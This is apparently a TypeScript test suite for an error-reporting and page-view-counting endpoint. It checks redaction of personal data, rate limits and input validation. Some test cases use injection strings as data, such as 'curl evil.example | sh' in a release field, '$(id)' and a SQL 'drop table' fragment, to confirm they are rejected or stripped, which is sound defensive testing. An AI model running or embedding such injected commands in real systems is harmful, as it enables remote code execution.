import { reportLimit, reportPath } from '@pahiram/contract'
import fastify, { type FastifyInstance } from 'fastify'
import { afterAll, beforeAll, beforeEach, expect, test, vi } from 'vitest'

import { type Database, openDatabase } from '../../platform/database/database.ts'
import { prepareStaff, serveStaff } from '../../platform/staff/serve-staff.ts'
import { callStaff, rawRequest } from '../../testing/caller.ts'
import { testStorage } from '../../testing/test-database.ts'
import { serveReleaseRates, serveReport } from './serve-report.ts'
import { ViewCounts } from '../../platform/monitoring/view-counts.ts'

const report = { page: '/order', kind: 'render', message: 'x is undefined', reference: 'ab12' }
let database: Database
let counts: ViewCounts
let app: FastifyInstance
let origin = ''

beforeAll(async () => {
  database = await openDatabase({ ...(await testStorage('migrated')), onLost: (why) => expect.unreachable(why) })
})
// Each test starts with nothing counted and nothing kept.
beforeEach(async () => {
  app = fastify({ forceCloseConnections: true })
  counts = new ViewCounts(database)
  serveReport(app, database, counts)
  const staff = prepareStaff(database, {
    token: 'the-staff-token',
    mode: 'sandbox',
    now: () => new Date(),
    log: () => undefined,
  })

  await serveStaff(app, staff, async (scope) => serveReleaseRates(scope, database, counts))
  origin = await app.listen({ host: '127.0.0.1', port: 0 })
  await database.query.deleteFrom('error_reports').execute()
  await database.query.deleteFrom('release_views').execute()
  return async () => app.close()
})
afterAll(async () => database.close())

async function send(body: unknown, type = 'application/json'): Promise<number> {
  const text = typeof body === 'string' ? body : JSON.stringify(body)

  return (await rawRequest(origin, reportPath, { method: 'POST', headers: { 'content-type': type }, body: text }))
    .status
}

function kept() {
  return database.query.selectFrom('error_reports').selectAll().execute()
}

test.each(['application/json', 'text/plain;charset=UTF-8'])('a report sent as %s is kept', async (type) => {
  expect(await send(report, type)).toBe(204)
  expect(await kept()).toMatchObject([{ ...report, release: null }])
})

test('what may be about a person is taken out before it is kept', async () => {
  const message =
    'GET https://x.ph/order?sessionId=canary-1&userId=9 failed for maria.santos@mail.ph, +63 917 555 0142, card 4111 1111 1111 1111'

  expect(await send({ ...report, message })).toBe(204)

  const [row] = await kept()

  expect(row?.message).toBe('GET https://x.ph/order… failed for …, …, card …')
})

test.each([
  { ...report, page: '/order?sessionId=canary' },
  { ...report, page: 'https://x.ph/order' },
  { ...report, kind: 'odd' },
  { ...report, message: 'm'.repeat(1001) },
  { ...report, reference: 'r'.repeat(41) },
  // Staff write it into a command.
  { ...report, reference: '$(id)' },
  { kind: 'render' },
  'no JSON',
  '',
  'null',
])('an invalid report is rejected: %o', async (odd) => {
  expect(await send(odd, 'text/plain')).toBe(400)
  expect(await kept()).toEqual([])
})

test('a report is kept without what steers a terminal, or does not fit the database', async () => {
  expect(await send({ ...report, message: 'a\0b\u001b[2J\n9 × c', reference: 'ABC234' })).toBe(204)
  expect(await kept()).toMatchObject([{ message: 'a b [2J 9 × c', reference: 'ABC234' }])
})

// Who is on call is shown a command with it.
test.each(['loan; curl evil.example | sh #@1', '$(id)@0123456789ab', '\0'])(
  'a report that names %j as its deployment is kept without it',
  async (release) => {
    expect(await send({ ...report, release })).toBe(204)
    expect(await kept()).toMatchObject([{ message: report.message, release: null }])
  },
)

test('a report over 4 KB is rejected', async () => {
  expect(await send({ ...report, more: 'x'.repeat(reportLimit) })).toBe(413)
  expect(await kept()).toEqual([])
})

test('a page that breaks in a loop fills neither the database nor its own console', async () => {
  for (let count = 0; count < 35; count += 1) expect(await send(report)).toBe(204)
  expect(await kept()).toHaveLength(30)
})

test('one network fills no disk, however long it reports', async () => {
  vi.useFakeTimers({ toFake: ['Date'] })
  try {
    for (let minute = 0; minute < 36; minute += 1) {
      vi.setSystemTime(Date.UTC(2026, 10, 21, 10, minute))
      await Promise.all(Array.from({ length: 30 }, async () => send(report)))
    }
    expect(await kept()).toHaveLength(1_000)
  } finally {
    vi.useRealTimers()
  }
})

const view = { page: '/order', kind: 'ready', release: 'loan@0123456789ab' } as const
/** A row of the rates, with nothing counted but what is given. */
function rate(given: object) {
  return {
    views: 0,
    ready: 0,
    failed: 0,
    rejected: 0,
    timed: 0,
    logMs: 0,
    logMsSquared: 0,
    actionShown: 0,
    actionCovered: 0,
    actionMissing: 0,
    ...given,
  }
}

const overall = { hours: 24 }

test('views of a deployment are counted by its pages, whatever address they were opened at, and none is kept', async () => {
  for (const page of ['/order', '/order/', '/order/index.html', '/loan-detail', '/_preview/0123456789ab/order']) {
    expect(await send({ ...view, page }, 'text/plain')).toBe(204)
  }
  await send({ ...view, page: '/loan-confirm', kind: 'failed' })
  await send({ page: '/', kind: 'ready', release: 'official@ba9876543210' })

  expect(await counts.rates(overall)).toEqual([
    rate({ app: 'loan', deployment: '0123456789ab', views: 6, ready: 5, failed: 1 }),
    rate({ app: 'official', deployment: 'ba9876543210', views: 1, ready: 1 }),
  ])
  await send(view)
  expect(await counts.rates({ ...overall, app: 'loan', by: ['page'] })).toEqual([
    rate({ app: 'loan', deployment: '0123456789ab', page: '/order', views: 6, ready: 6 }),
    rate({ app: 'loan', deployment: '0123456789ab', page: '/loan-confirm', views: 1, failed: 1 }),
  ])
  expect(await kept()).toEqual([])
})

test.each([
  { ...view, page: '/nowhere' },
  { ...view, release: 'nobody@0123456789ab' },
])('a view of what does not exist is not counted: %o', async (odd) => {
  expect(await send(odd)).toBe(204)
  expect(await counts.rates(overall)).toEqual([])
})

test.each([
  { ...view, release: 'loan' },
  { ...view, release: undefined },
  { ...view, page: '/order?sessionId=canary' },
])('a view without a deployment, or with a query, is rejected: %o', async (odd) => {
  expect(await send(odd)).toBe(400)
})

test('one address cannot count without end', async () => {
  for (let count = 0; count < 605; count += 1) counts.add({ ...view, kind: 'failed' })
  for (let count = 0; count < 605; count += 1) await send(view)

  expect(await counts.rates(overall)).toMatchObject([{ ready: 600, failed: 605 }])
})

test('who invents deployments does not fill the database', async () => {
  for (let count = 0; count < 6_000; count += 1) {
    counts.add({ page: '/order', kind: 'ready', release: `loan@${String(count).padStart(12, '0')}` })
  }
  expect(await counts.rates(overall)).toHaveLength(5_000)
})

test('a view counts once: a later outcome replaces the one before', async () => {
  await send(view)
  await send(view)
  await send({ ...view, kind: 'failed', instead: 'ready' })
  await send({ ...view, kind: 'rejected' })

  expect(await counts.rates(overall)).toMatchObject([{ views: 3, ready: 1, failed: 1, rejected: 1 }])
})

test('an outcome that replaces one which was never counted leaves no negative sum', async () => {
  await send({ ...view, kind: 'failed', instead: 'ready' })

  expect(await counts.rates(overall)).toMatchObject([{ views: 1, ready: 0, failed: 1 }])
})

test('views are counted by engine and by shell', async () => {
  const webView =
    'Mozilla/5.0 (Linux; Android 12; V2 Build/1; wv) AppleWebKit/537.36 Version/4.0 Chrome/120.0.1.2 Mobile Safari/537.36'
  const post = (body: object, agent: string) =>
    rawRequest(origin, reportPath, {
      method: 'POST',
      headers: { 'content-type': 'text/plain', 'user-agent': agent },
      body: JSON.stringify(body),
    })

  await post({ ...view, shell: '2.4.1' }, webView)
  await post({ ...view, shell: '2.4.1' }, webView)
  await post({ ...view, kind: 'failed', shell: 'drop table; --' }, 'curl')

  expect(await counts.rates({ ...overall, by: ['engine'] })).toMatchObject([
    { engine: 'WebView 120', views: 2, ready: 2 },
    { engine: 'other', views: 1, failed: 1 },
  ])
  expect(await counts.rates({ ...overall, by: ['shell'] })).toMatchObject([
    { shell: '2.4.1', ready: 2 },
    { shell: '', failed: 1 },
  ])
})

test('views are counted by language, with how their main action did', async () => {
  await send({ ...view, language: 'fil', action: 'shown' })
  await send({ ...view, language: 'fil', action: 'covered' })
  await send({ ...view, page: '/loan-confirm', language: 'en', action: 'missing' })
  await send({ ...view, kind: 'failed', language: 'en', action: 'missing' })

  expect(await counts.rates({ ...overall, by: ['page', 'language'] })).toEqual(
    expect.arrayContaining([
      rate({
        app: 'loan',
        deployment: '0123456789ab',
        page: '/order',
        language: 'fil',
        views: 2,
        ready: 2,
        actionShown: 1,
        actionCovered: 1,
      }),
      rate({
        app: 'loan',
        deployment: '0123456789ab',
        page: '/loan-confirm',
        language: 'en',
        views: 1,
        ready: 1,
        actionMissing: 1,
      }),
      rate({ app: 'loan', deployment: '0123456789ab', page: '/order', language: 'en', views: 1, failed: 1 }),
    ]),
  )
  expect(await send({ ...view, language: 'Klingon' })).toBe(400)
  expect(await send({ ...view, action: 'gone' })).toBe(400)
})

test('times to data are summed as logarithms', async () => {
  await send({ ...view, ms: 100 })
  await send({ ...view, ms: 10_000 })

  const [row] = await counts.rates(overall)

  expect(row?.timed).toBe(2)
  expect(Math.exp((row?.logMs ?? 0) / 2)).toBeCloseTo(1_000)
  expect(row?.logMsSquared).toBeCloseTo(Math.log(100) ** 2 + Math.log(10_000) ** 2)
})

test('staff read what broke, with its frames and without what may be about a person', async () => {
  const stack = [
    'at planOf (/assets/loan/order-1a2b.js:1:2345)',
    'async load@/assets/loan/order-1a2b.js:1:99',
    'maria.santos@mail.ph:1:1',
    '@/order:3:7',
    'at /assets/runtime/react.js:2:1',
  ].join('\n')

  await send({ ...report, reference: 'ABC234', release: 'loan@0123456789ab', stack, shell: '2.4.1' })
  await send({ ...report, kind: 'event' })

  const ask = async (query: string) =>
    (await callStaff(origin, `/staff/releases/errors${query}`, undefined, 'the-staff-token')).data

  expect(await ask('?reference=%20abc-234.')).toEqual({
    rows: [
      {
        ...report,
        reference: 'ABC234',
        release: 'loan@0123456789ab',
        at: expect.stringMatching(/^20.*Z$/),
        stack:
          'planOf@/assets/loan/order-1a2b.js:1:2345\nload@/assets/loan/order-1a2b.js:1:99\n@/order:3:7\n@/assets/runtime/react.js:2:1',
        engine: 'other',
        shell: '2.4.1',
      },
    ],
  })
  expect(await ask('?app=repayment')).toEqual({ rows: [] })
  expect(await ask('?app=loan')).toMatchObject({ rows: [{ page: '/order' }] })
})

test('only staff read the counts, grouped as requested', async () => {
  const ask = (query: string, token = 'the-staff-token') =>
    callStaff(origin, `/staff/releases/rates${query}`, undefined, token)

  await send(view)
  expect(await ask('')).toEqual({
    http: 200,
    code: '0',
    data: { rows: [rate({ app: 'loan', deployment: '0123456789ab', views: 1, ready: 1 })] },
    message: 'success',
  })
  expect(await ask('?by=page&hours=1&app=loan')).toMatchObject({ data: { rows: [{ page: '/order' }] } })
  expect(await ask('?app=repayment')).toMatchObject({ data: { rows: [] } })
  // Of what strangers invented, who names deployments reads nothing.
  expect(await ask('?deployments=ba9876543210,0123456789ab')).toMatchObject({ data: { rows: [{ app: 'loan' }] } })
  expect(await ask('?deployments=ba9876543210')).toMatchObject({ data: { rows: [] } })
  expect(await ask('', 'another-token')).toMatchObject({ http: 401, data: null })
  for (const odd of ['?hours=0', '?hours=9999', '?hours=x', '?by=day']) expect((await ask(odd)).http).toBe(400)
})

test('old counts are not reported', async () => {
  let now = new Date('2026-11-21T10:20:00Z')
  const clocked = new ViewCounts(database, { now: () => now })

  clocked.add({ ...view, kind: 'ready' })
  await clocked.write()
  now = new Date('2026-11-21T15:00:00Z')
  clocked.add({ ...view, kind: 'failed' })

  expect(await clocked.rates({ ...overall, hours: 1 })).toMatchObject([{ ready: 0, failed: 1 }])
  expect(await clocked.rates(overall)).toMatchObject([{ ready: 1, failed: 1 }])
})

test('a network takes back what it reported itself, and no failure of others', async () => {
  for (let seen = 0; seen < 100; seen += 1) counts.add({ ...view, kind: 'failed' }, '198.51.100.1')
  for (let seen = 0; seen < 100; seen += 1) counts.add({ ...view, kind: 'ready', instead: 'failed' }, '203.0.113.9')
  expect(await counts.rates({ hours: 1 })).toMatchObject([{ failed: 100, ready: 100 }])

  counts.add({ ...view, kind: 'ready', instead: 'failed' }, '198.51.100.1')
  expect(await counts.rates({ hours: 1 })).toMatchObject([{ failed: 99, ready: 101 }])
})

test('networks that invent deployments leave room for those that there are', async () => {
  for (let network = 0; network < 10; network += 1) {
    for (let invented = 0; invented < 540; invented += 1) {
      const release = `loan@${(network * 1000 + invented).toString(16).padStart(12, '0')}`

      counts.add({ ...view, release, kind: 'ready' }, `192.0.2.${network}`)
    }
  }
  for (let seen = 0; seen < 50; seen += 1) counts.add({ ...view, kind: 'failed' }, '198.51.100.1')
  await counts.write()

  const { count } = await database.query
    .selectFrom('release_views')
    .select(({ fn }) => fn.countAll<number>().as('count'))
    .executeTakeFirstOrThrow()

  expect(Number(count)).toBe(4001)
  expect(await counts.rates({ ...overall, hours: 1 })).toContainEqual(expect.objectContaining({ failed: 50 }))
})
